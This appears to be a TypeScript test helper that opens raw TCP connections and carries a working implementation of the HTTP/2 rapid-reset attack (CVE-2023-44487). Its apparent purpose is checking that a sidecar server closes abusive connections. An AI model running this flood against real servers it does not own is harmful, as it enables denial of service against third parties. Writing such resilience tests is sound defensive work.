/** Hostile-client moves shared by the sidecar's tests. */
import { connect as connectTcp } from 'node:net';
import { Frame, FrameReader, PREFACE, headersFrames, rstStream, settings } from './raw-h2.js';

/**
 * Sends `bytes` on a raw connection; resolves with everything received once the server closed it,
 * or `undefined` if it is still open after `ms` (then it is destroyed).
 */
export function rawExchange(port: number, bytes: string | Buffer, ms: number): Promise<string | undefined> {
  return new Promise((resolve) => {
    let received = '';
    const socket = connectTcp(port, '127.0.0.1', () => socket.write(bytes));
    socket.setEncoding('latin1');
    socket.on('data', (chunk: string) => (received += chunk));
    socket.on('error', () => undefined);
    const timer = setTimeout(() => {
      socket.destroy();
      resolve(undefined);
    }, ms);
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(received);
    });
  });
}

/**
 * The rapid-reset pattern (CVE-2023-44487): opens a stream and resets it at once, `total` times,
 * reconnecting whenever the server closes the connection (at most `maxConnections` times).
 * Resolves with the streams opened, the connections it took and how many of them the server closed
 * (GOAWAY or a closed socket, waited for at most `closeWaitMs` once a connection's streams are sent).
 *
 * Written as frames on a raw socket (HEADERS then RST_STREAM(CANCEL) per stream, in batches): a
 * node:http2 client may drop a stream's HEADERS when the reset is queued before they were written,
 * so under load nothing would reach the server.
 */
export async function rapidReset(target: string, path: string, total: number, maxConnections: number, closeWaitMs = 10_000): Promise<{ opened: number; connections: number; closedByServer: number }> {
  const [host, port] = splitTarget(target);
  const headers: [string, string][] = [[':method', 'POST'], [':scheme', 'http'], [':path', path], [':authority', target], ['content-type', 'application/grpc'], ['te', 'trailers']];
  let opened = 0;
  let connections = 0;
  let closedByServer = 0;
  while (opened < total && connections < maxConnections) {
    connections++;
    const socket = connectTcp(port, host);
    const reader = new FrameReader();
    let closed = false;
    socket.on('error', () => undefined);
    let onClosed: () => void = () => undefined;
    const markClosed = (): void => {
      closed = true;
      onClosed();
    };
    socket.on('data', (chunk: Buffer) => {
      // A GOAWAY ends the connection for new streams, as a closed socket does.
      for (const f of reader.push(chunk)) if (f.type === Frame.GOAWAY) markClosed();
    });
    socket.once('close', markClosed);
    await new Promise<void>((resolve) => {
      socket.once('connect', () => resolve());
      socket.once('close', () => resolve());
    });
    if (!closed) socket.write(Buffer.concat([PREFACE, settings()]));
    // Client stream ids are odd and grow: one connection carries at most 2^30 of them.
    for (let id = 1; opened < total && !closed; ) {
      const batch: Buffer[] = [];
      for (let i = 0; i < 50 && opened < total; i++, id += 2, opened++) batch.push(headersFrames(id, headers, false), rstStream(id, 8));
      if (!socket.write(Buffer.concat(batch))) await new Promise((r) => { socket.once('drain', r); socket.once('close', r); });
      else await new Promise((r) => setImmediate(r));
    }
    if (!closed) {
      await new Promise<void>((resolve) => {
        const timer = setTimeout(resolve, closeWaitMs);
        onClosed = () => {
          clearTimeout(timer);
          resolve();
        };
      });
    }
    if (closed) closedByServer++;
    socket.destroy();
  }
  return { opened, connections, closedByServer };
}

function splitTarget(target: string): [string, number] {
  const at = target.lastIndexOf(':');
  return [target.slice(0, at).replace(/^\[|\]$/g, ''), Number(target.slice(at + 1))];
}
